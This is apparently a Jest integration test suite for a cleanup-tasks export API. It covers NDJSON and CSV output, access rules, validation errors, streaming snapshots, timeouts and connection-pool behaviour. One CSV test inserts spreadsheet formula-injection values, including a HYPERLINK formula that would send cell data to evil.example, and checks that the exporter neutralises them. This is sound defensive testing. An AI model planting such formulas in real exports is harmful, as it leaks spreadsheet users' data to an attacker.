import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { parse as parseCsv } from 'csv-parse/sync';
import { get as httpGet, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import pg from 'pg';
import request from 'supertest';
import { TaskExportRepository } from '@app/cleanup-tasks/task-export.repository';
import { createTestApp, insertTasks, type TestApp } from './support/test-app';
import { taskId, walkForward } from './support/list-helpers';
import { waitFor } from './support/scheduler';
import { asText } from './support/streamed-text';

const FIELDS = ['id', 'parentId', 'workspaceId', 'sourceEventId', 'resourceType', 'resourceId', 'metadata', 'status', 'attempts', 'lastError', 'createdAt', 'completedAt'];

/** `GET /api/cleanup-tasks/export` with the given parameters (objects sent as JSON), the body as text. */
function exportTasks(sut: TestApp, token: string | undefined, params: Record<string, unknown> = {}) {
  const query = Object.fromEntries(Object.entries(params).map(([key, value]) => [key, typeof value === 'string' ? value : JSON.stringify(value)]));
  const test = asText(request(sut.server).get('/api/cleanup-tasks/export').query(query));
  return token === undefined ? test : test.auth(token, { type: 'bearer' });
}

/** The export's body as text; it must be a 200. */
async function exportText(sut: TestApp, token: string, params: Record<string, unknown> = {}): Promise<string> {
  const response = await exportTasks(sut, token, params);
  if (response.status !== 200) throw new Error(`expected 200, got ${response.status}: ${String(response.body)}`);
  return response.body as string;
}

const ndjson = (text: string) => (text === '' ? [] : text.split('\n').slice(0, -1).map((line) => JSON.parse(line) as Record<string, unknown>));

const METADATA = FIELDS.indexOf('metadata');

/** The list's JSON of a task as its CSV row must show it (the contract's CSV rules, neutralisation aside; metadata compact). */
function csvCells(task: Record<string, unknown>): string[] {
  return FIELDS.map((field) => {
    const value = task[field];
    if (value === null) return '';
    if (field === 'metadata') return JSON.stringify(value);
    return String(value);
  });
}

/** A parsed CSV row with its metadata cell (JSON text, spaced as PostgreSQL writes it) made compact, for comparison. */
const compactMetadata = (row: string[]) => row.map((cell, i) => (i === METADATA ? JSON.stringify(JSON.parse(cell)) : cell));

/** The list's tasks for these parameters, every page. */
async function listed(sut: TestApp, token: string, params: Record<string, unknown>): Promise<Record<string, unknown>[]> {
  const { pages } = await walkForward(sut, token, params);
  return pages.flatMap((page) => page.data);
}

async function listening(sut: TestApp): Promise<number> {
  if (!sut.server.listening) await new Promise<void>((resolve) => sut.server.listen(0, '127.0.0.1', resolve));
  return (sut.server.address() as AddressInfo).port;
}

/** A raw GET of the export that resolves on its first body bytes, paused there (the client reads no further until resumed). */
function openStream(port: number, token: string, path = '/api/cleanup-tasks/export'): Promise<{ res: IncomingMessage; first: string; destroy(): void }> {
  return new Promise((resolve, reject) => {
    const req = httpGet({ host: '127.0.0.1', port, path, headers: { authorization: `Bearer ${token}` } }, (res) => {
      if (res.statusCode !== 200) reject(new Error(`answered ${res.statusCode}`));
      res.once('data', (chunk: Buffer) => {
        res.pause();
        resolve({ res, first: chunk.toString('utf8'), destroy: () => req.destroy() });
      });
    });
    req.on('error', reject);
    req.setTimeout(10_000, () => reject(new Error('no answer within 10 s')));
  });
}

/** `n` tasks in workspace ws_alpha made by SQL (ids ct_…0001…), `created_at` one millisecond apart. */
async function insertMany(sut: TestApp, n: number): Promise<void> {
  await sut.dataSource.query(
    `INSERT INTO cleanup_tasks (id, workspace_id, resource_type, resource_id, metadata, status, created_at)
     SELECT 'ct_' || lpad(i::text, 26, '0'), 'ws_alpha', 'delete_app', 'app_' || i, jsonb_build_object('n', i, 'note', repeat('x', 300)), 'pending',
            timestamptz '2026-01-01T00:00:00Z' + i * interval '1 millisecond'
       FROM generate_series(1, $1::int) AS i`,
    [n],
  );
}

describe('Export [GET /api/cleanup-tasks/export]', () => {
  let sut: TestApp;
  const STALL_TIMEOUT_MS = 1500;
  /** Export connections in use (running a statement, or holding an export's transaction open); idle ones wait in the pool. */
  const IN_USE = `datname = current_database() AND application_name LIKE '%-export' AND state <> 'idle'`;
  const exportConnections = async () => (await sut.dataSource.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE ${IN_USE}`))[0].n as number;

  beforeAll(async () => {
    sut = await createTestApp({ env: { EXPORT_POOL_SIZE: '2', STREAM_STALL_TIMEOUT_MS: String(STALL_TIMEOUT_MS) } });
  });
  afterAll(async () => {
    await sut.close();
  });
  beforeEach(async () => {
    await sut.dataSource.query('DELETE FROM cleanup_tasks');
  });

  async function seedVaried(): Promise<string[]> {
    const [root] = await insertTasks(sut.dataSource, [
      { workspaceId: 'ws_alpha', status: 'failed', attempts: 3, lastError: 'child failed', sourceEventId: 'evt_1', metadata: { region: 'eu', tags: ['a', 'b'], nested: { k: [1, null] } }, createdAt: '2026-01-01T00:00:00.001Z' },
    ]);
    const rest = await insertTasks(sut.dataSource, [
      { parentId: root, workspaceId: 'ws_alpha', resourceType: 'delete_app', status: 'completed', attempts: 1, createdAt: '2026-01-01T00:00:00.002Z', completedAt: '2026-01-02T03:04:05.678Z' },
      { parentId: root, workspaceId: 'ws_alpha', resourceType: 'delete_database', status: 'failed', attempts: 5, lastError: 'timeout after 30s', createdAt: '2026-01-01T00:00:00.002Z' },
      { workspaceId: 'ws_beta', resourceType: 'delete_workspace', resourceId: 'ws_beta', status: 'pending', metadata: { 'é': 'ü', emoji: '🧹' }, createdAt: '2025-12-31T23:59:59.999Z' },
      { workspaceId: 'ws_gamma', status: 'in_progress', attempts: 2, createdAt: '2026-02-01T00:00:00.000Z' },
    ]);
    return [root, ...rest];
  }

  it('sends every matching task as NDJSON, exactly the list’s task JSON in the list’s order, one per line', async () => {
    await seedVaried();
    for (const params of [{}, { orderBy: [{ attempts: 'desc' }, { completedAt: 'asc_nulls_first' }] }, { filter: { status: { neq: 'pending' } }, orderBy: [{ createdAt: 'desc' }] }]) {
      const response = await exportTasks(sut, sut.tokens.admin, params);
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe('application/x-ndjson');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cleanup-tasks-\d{8}T\d{6}Z\.ndjson"$/);
      expect(response.headers['cache-control']).toBe('no-store');
      const text = response.body as string;
      expect(text.endsWith('\n')).toBe(true);
      const tasks = ndjson(text);
      const expected = await listed(sut, sut.tokens.admin, params);
      expect(tasks).toEqual(expected);
      expect(tasks.map((task) => Object.keys(task))).toEqual(expected.map(() => FIELDS));
    }
  });

  it('sends CSV: a header of the field names in the task’s order, then the list’s values (RFC 4180, parsed with csv-parse)', async () => {
    await seedVaried();
    const params = { orderBy: [{ createdAt: 'asc' }], format: 'csv' };
    const response = await exportTasks(sut, sut.tokens.admin, params);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cleanup-tasks-\d{8}T\d{6}Z\.csv"$/);
    const text = response.body as string;
    expect(text.startsWith(`${FIELDS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text, { relaxQuotes: false, relaxColumnCount: false }) as string[][];
    expect(rows[0]).toEqual(FIELDS);
    const expected = await listed(sut, sut.tokens.admin, { orderBy: params.orderBy });
    // metadata is JSON text of the same value; timestamps are the JSON's strings.
    expect(rows.slice(1).map(compactMetadata)).toEqual(expected.map(csvCells));
    expect(rows[2][10]).toBe('2026-01-01T00:00:00.001Z');
  });

  it('quotes commas, quotes and line breaks, keeps NULL apart from the empty string, and neutralises formula cells but not numbers', async () => {
    const values = {
      comma: 'a,b',
      quote: 'say "hi"',
      newline: 'line1\nline2',
      crlf: 'line1\r\nline2',
      equals: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      plus: '+1+2',
      minus: '-1',
      at: '@SUM(A1:A2)',
      tab: '\t=1+1',
      cr: '\r=1+1',
      inner: 'a=1',
      quoted: "'already",
      empty: '',
    };
    const ids: Record<string, string> = {};
    let n = 0;
    for (const [name, value] of Object.entries(values)) {
      [ids[name]] = await insertTasks(sut.dataSource, [{ id: taskId(++n), resourceId: value, lastError: value, sourceEventId: name === 'empty' ? null : value, attempts: n }]);
    }
    await insertTasks(sut.dataSource, [{ id: taskId(n + 1), workspaceId: '-ws', resourceId: '@x', attempts: 0, metadata: { formula: '=1+1' } }]);

    const text = await exportText(sut, sut.tokens.admin, { format: 'csv', orderBy: [{ id: 'asc' }] });
    const rows = parseCsv(text) as string[][];
    const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
    const cell = (name: string, field: string) => byId.get(ids[name])![FIELDS.indexOf(field)];
    const expected: Record<string, string> = {
      comma: 'a,b', quote: 'say "hi"', newline: 'line1\nline2', crlf: 'line1\r\nline2',
      equals: `'${values.equals}`, plus: "'+1+2", minus: "'-1", at: "'@SUM(A1:A2)", tab: "'\t=1+1", cr: "'\r=1+1",
      inner: 'a=1', quoted: "'already", empty: '',
    };
    for (const [name, value] of Object.entries(expected)) {
      expect({ name, resourceId: cell(name, 'resourceId'), lastError: cell(name, 'lastError') }).toEqual({ name, resourceId: value, lastError: value });
    }
    // Raw text: quoted where RFC 4180 wants it, the empty string as "" and NULL as nothing.
    const line = (id: string) => text.split('\r\n').find((row) => row.startsWith(id))!;
    expect(line(ids.comma)).toContain(',delete_workspace,"a,b",{},pending,');
    expect(line(ids.quote)).toContain(',"say ""hi""",');
    expect(line(ids.empty)).toMatch(new RegExp(`^${ids.empty},,ws_alpha,,delete_workspace,"",\\{\\},pending,\\d+,"",`));
    expect(text).toContain('\r\n'.concat(`${ids.crlf},,ws_alpha,"line1\r\nline2",`));
    // Any text field is neutralised where it starts like a formula (JSON text starts with "{"); numbers are numbers.
    const last = compactMetadata(rows.at(-1)!);
    expect(last.slice(2, 9)).toEqual(["'-ws", '', 'delete_workspace', "'@x", '{"formula":"=1+1"}', 'pending', '0']);
  });

  it('exports the header alone, or nothing, when no task matches', async () => {
    expect(await exportText(sut, sut.tokens.admin, { format: 'csv' })).toBe(`${FIELDS.join(',')}\r\n`);
    expect(await exportText(sut, sut.tokens.admin, {})).toBe('');
  });

  it("exports a member's workspaces only (relations too); admin and service export all", async () => {
    await seedVaried();
    const member = ndjson(await exportText(sut, sut.tokens.member, {}));
    expect(member).toEqual(await listed(sut, sut.tokens.member, {}));
    expect(new Set(member.map((task) => task.workspaceId))).toEqual(new Set(['ws_alpha', 'ws_beta']));
    expect(ndjson(await exportText(sut, sut.tokens.otherMember, { filter: { parent: {} } }))).toEqual([]);
    for (const token of [sut.tokens.admin, sut.tokens.service]) expect(ndjson(await exportText(sut, token, {}))).toHaveLength(5);
    const narrowed = { status: 'failed', workspace_id: 'ws_alpha', filter: { children: { none: {} } } };
    expect(ndjson(await exportText(sut, sut.tokens.member, narrowed))).toEqual(await listed(sut, sut.tokens.member, narrowed));
  });

  it('answers 403 to a metrics token (it reads /metrics only), before streaming anything', async () => {
    const response = await exportTasks(sut, sut.tokens.metrics, { format: 'csv' });
    expect(response.status).toBe(403);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.headers['content-disposition']).toBeUndefined();
  });

  it('answers 401 without a token or with a revoked one', async () => {
    for (const token of [undefined, sut.tokens.revoked]) {
      const response = await exportTasks(sut, token, {});
      expect(response.status).toBe(401);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
  });

  describe('validation', () => {
    const cases: [name: string, params: Record<string, unknown>, errors: { path: string; message: string | RegExp }[]][] = [
      ['paging', { limit: '10', after: 'x', before: 'y' }, ['limit', 'after', 'before'].map((path) => ({ path, message: 'not taken by the export: it sends every matching task, in one response' }))],
      ['an unknown format', { format: 'xml' }, [{ path: 'format', message: 'expected one of ndjson, csv' }]],
      ['an unknown parameter', { groupBy: 'status' }, [{ path: 'groupBy', message: /^unknown query parameter \(expected one of format, orderBy, ids, filter, status, resource_type, workspace_id, parent_id, source_event_id\)$/ }]],
      ['a bad orderBy', { orderBy: [{ metadata: 'asc' }, { nope: 'desc' }] }, [{ path: 'orderBy[0].metadata', message: 'field is not sortable' }, { path: 'orderBy[1].nope', message: 'unknown field' }]],
      ['a bad shortcut', { resource_type: 'delete_user', parent_id: 'ct_1' }, [{ path: 'resource_type', message: /expected one of/ }, { path: 'parent_id', message: /ct_/ }]],
      ['a bad filter and orderBy', { filter: { attempts: { gt: 'x' } }, orderBy: { createdAt: 'asc' } }, [{ path: 'orderBy', message: /array/ }, { path: 'filter.attempts.gt', message: 'expected integer' }]],
      ['malformed ids', { ids: `${taskId(1)},nope` }, [{ path: 'ids[1]', message: /ct_/ }]],
    ];

    it.each(cases)('answers 400 naming every problem for %s, before anything is streamed', async (_name, params, errors) => {
      const response = await exportTasks(sut, sut.tokens.admin, params);
      expect(response.status).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(response.headers['content-disposition']).toBeUndefined();
      const body = JSON.parse(response.body as string) as { code: string; errors: { path: string; message: string }[] };
      expect(body.code).toBe('validation-failed');
      expect(body.errors).toHaveLength(errors.length);
      errors.forEach((error, i) => {
        expect(body.errors[i].path).toBe(error.path);
        if (typeof error.message === 'string') expect(body.errors[i].message).toBe(error.message);
        else expect(body.errors[i].message).toMatch(error.message);
      });
    });
  });

  it('streams 20,000 tasks in many chunks from one snapshot: changes made meanwhile are not seen', async () => {
    await insertMany(sut, 20_000);
    const port = await listening(sut);
    const stream = await openStream(port, sut.tokens.admin, '/api/cleanup-tasks/export?format=csv');
    let text = stream.first;
    let chunks = 1;
    try {
      // While the export is under way: its snapshot was taken before these.
      await sut.dataSource.query(`DELETE FROM cleanup_tasks WHERE id > $1`, [taskId(10_000)]);
      await sut.dataSource.query(`UPDATE cleanup_tasks SET status = 'in_progress' WHERE id <= $1`, [taskId(100)]);
      // The cursor is still open (the client has not read on): the batches after these changes come from the same snapshot.
      expect(await exportConnections()).toBe(1);
      await new Promise<void>((resolve, reject) => {
        stream.res.setEncoding('utf8');
        stream.res.on('data', (chunk: string) => {
          text += chunk;
          chunks++;
        });
        stream.res.on('end', resolve);
        stream.res.on('error', reject);
        stream.res.resume();
      });
    } finally {
      stream.destroy();
    }
    expect(chunks).toBeGreaterThan(10);
    const rows = (parseCsv(text) as string[][]).slice(1);
    expect(rows).toHaveLength(20_000);
    expect(rows.map((row) => row[0])).toEqual(Array.from({ length: 20_000 }, (_, i) => taskId(i + 1)));
    expect(rows.every((row) => row[7] === 'pending')).toBe(true);
    await waitFor('the export connection to be idle', async () => (await exportConnections()) === 0, { timeoutMs: 5000 });
  });

  it('cuts off a client that stops reading (STREAM_STALL_TIMEOUT_MS), letting go of its cursor and connection', async () => {
    // Enough to fill the socket buffers on both sides (~25 MB), so that the server waits for 'drain'.
    await insertMany(sut, 50_000);
    const port = await listening(sut);
    const stream = await openStream(port, sut.tokens.admin);
    const stalled = Date.now();
    let closed = false;
    stream.res.on('close', () => (closed = true));
    try {
      expect(await exportConnections()).toBe(1);
      await waitFor('the stalled export to be let go', async () => (await exportConnections()) === 0, { timeoutMs: 10_000 });
      expect(Date.now() - stalled).toBeGreaterThanOrEqual(STALL_TIMEOUT_MS - 500);
      // The server closed the connection: the client, resuming, gets an unfinished body.
      stream.res.resume();
      await waitFor('the client to see the connection closed', async () => closed, { timeoutMs: 5000 });
      expect(stream.res.complete).toBe(false);
    } finally {
      stream.destroy();
    }
    // The connection went back to the pool, fit for the next export.
    expect(ndjson(await exportText(sut, sut.tokens.admin, { filter: { resourceId: { eq: 'app_7' } } })).map((task) => task.id)).toEqual([taskId(7)]);
  });

  it('lets go of its connection when the client hangs up half-way, however often', async () => {
    await insertMany(sut, 5000);
    const port = await listening(sut);
    // More aborted exports than the pool has connections: a leak would turn the last ones away (503).
    for (let i = 0; i < 5; i++) {
      const stream = await openStream(port, sut.tokens.admin);
      stream.destroy();
    }
    await waitFor('every export connection to be let go', async () => (await exportConnections()) === 0, { timeoutMs: 5000 });
    expect(ndjson(await exportText(sut, sut.tokens.admin, { format: 'ndjson' }))).toHaveLength(5000);
  });

  it('cuts the connection when the database fails half-way: the body never ends as if complete', async () => {
    await insertMany(sut, 20_000);
    const port = await listening(sut);
    const stream = await openStream(port, sut.tokens.admin);
    let text = stream.first;
    try {
      const [{ terminated }] = await sut.dataSource.query(
        `SELECT count(pg_terminate_backend(pid))::int AS terminated FROM pg_stat_activity WHERE ${IN_USE}`,
      );
      expect(terminated).toBe(1);
      const outcome = await new Promise<string>((resolve) => {
        stream.res.setEncoding('utf8');
        stream.res.on('data', (chunk: string) => (text += chunk));
        stream.res.on('end', () => resolve('end'));
        stream.res.on('error', () => resolve('error'));
        stream.res.on('close', () => resolve(stream.res.complete ? 'end' : 'cut'));
        stream.res.resume();
      });
      expect(outcome).not.toBe('end');
      expect(stream.res.complete).toBe(false);
    } finally {
      stream.destroy();
    }
    // What did arrive is whole lines of tasks, fewer than all of them.
    const lines = text.split('\n');
    const whole = lines.slice(0, -1).map((line) => JSON.parse(line) as { id: string });
    expect(whole.length).toBeGreaterThan(0);
    expect(whole.length).toBeLessThan(20_000);
    expect(ndjson(await exportText(sut, sut.tokens.admin, { format: 'ndjson' }))).toHaveLength(20_000);
  });

  it('answers 503 busy with Retry-After, before anything is sent, while every export connection (EXPORT_POOL_SIZE) is in use', async () => {
    await insertTasks(sut.dataSource, [{}]);
    const reads = sut.app.get(TaskExportRepository)['exportReads'];
    const pool = sut.db.sidePool(reads.name, reads.shape!);
    const held = await Promise.all([pool.connect(), pool.connect()]);
    let busy: request.Response;
    try {
      busy = await exportTasks(sut, sut.tokens.admin, { format: 'csv' });
      // Nothing else is affected: the list and counts have pools of their own.
      expect((await request(sut.server).get('/api/cleanup-tasks').auth(sut.tokens.admin, { type: 'bearer' })).body.pageInfo.total).toBe(1);
    } finally {
      for (const session of held) await session.close();
    }
    expect(busy.status).toBe(503);
    expect(busy.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(busy.headers['retry-after']).toBe('5');
    expect(busy.headers['content-disposition']).toBeUndefined();
    expect(JSON.parse(busy.body as string)).toMatchObject({ status: 503, code: 'busy', detail: expect.stringContaining('exports') });
    expect(ndjson(await exportText(sut, sut.tokens.admin, {}))).toHaveLength(1);
  });
});

describe('Exports past EXPORT_QUERY_TIMEOUT_MS', () => {
  let sut: TestApp;

  beforeAll(async () => {
    sut = await createTestApp({ env: { EXPORT_QUERY_TIMEOUT_MS: '300' } });
    await insertTasks(sut.dataSource, [{}, {}]);
  });
  afterAll(async () => {
    await sut.close();
  });

  it('are cancelled in PostgreSQL and answered 504 problem+json (query-timeout) before anything is sent; the next one is served', async () => {
    // A client of its own holds the table, so the export's statement waits until PostgreSQL cancels it.
    const blocker = new pg.Client({ connectionString: sut.databaseUrl });
    await blocker.connect();
    let response: request.Response;
    const started = Date.now();
    try {
      await blocker.query('BEGIN');
      await blocker.query('LOCK TABLE cleanup_tasks IN ACCESS EXCLUSIVE MODE');
      response = await exportTasks(sut, sut.tokens.admin, { format: 'csv' });
    } finally {
      await blocker.query('ROLLBACK').catch(() => undefined);
      await blocker.end();
    }
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(response.status).toBe(504);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(response.headers['content-disposition']).toBeUndefined();
    const body = JSON.parse(response.body as string);
    expect(body).toMatchObject({ status: 504, code: 'query-timeout', limitMs: 300, detail: expect.stringContaining('Narrow it') });
    expect(JSON.stringify(body)).not.toMatch(/SELECT|FETCH|DECLARE|cleanup_tasks|statement/i);
    expect(ndjson(await exportText(sut, sut.tokens.admin, {}))).toHaveLength(2);
  });
});
